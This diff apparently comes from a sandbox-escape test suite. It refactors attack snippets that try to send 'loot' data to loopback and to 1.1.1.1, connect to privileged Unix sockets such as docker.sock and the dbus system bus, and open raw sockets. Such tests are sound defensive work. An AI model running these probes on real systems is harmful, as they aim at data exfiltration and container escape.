@@ -9,12 +9,11 @@ def sockets(lab):
     lab.attack(
         """
         import socket
-        for host in ("127.0.0.1", "localhost", "10.0.0.1", "1.1.1.1"):
+        for place in (("127.0.0.1", PORT), ("localhost", PORT), ("::1", PORT), ("1.1.1.1", 53)):
             try:
-                with socket.create_connection((host, PORT if host[0] in "l1" and "0.0.1" in host else 53), 0.5) as s:
-                    s.sendall(b"loot")
-                got_through("connected to", host)
-            except OSError as error: print(host, error)
+                with socket.create_connection(place, 0.5) as s: s.sendall(b"loot")
+                got_through("connected to", place)
+            except OSError as error: print(place, error)
         try:
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", PORT))
         except OSError as error: print(error)
@@ -46,7 +45,7 @@ def sockets_of_unix(lab):
     lab.attack(
         """
         import glob, socket
-        common = ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/nscd/socket", "/run/user/0/bus")
+        common = ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/nscd/socket")
         for path in (SOCKET, "\\0" + SOCKET, "/proc/1/root" + SOCKET, *common):
             try:
                 with socket.socket(socket.AF_UNIX) as s:
@@ -64,9 +63,9 @@ def raw_sockets(lab):
     lab.attack(
         """
         import socket
-        for family, kind, number in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3)):
+        for family, number in ((socket.AF_INET, 1), (socket.AF_PACKET, 3)):
             try:
-                socket.socket(family, kind, number)
+                socket.socket(family, socket.SOCK_RAW, number)
                 got_through("a raw socket", family)
             except OSError as error: print(error)
         """
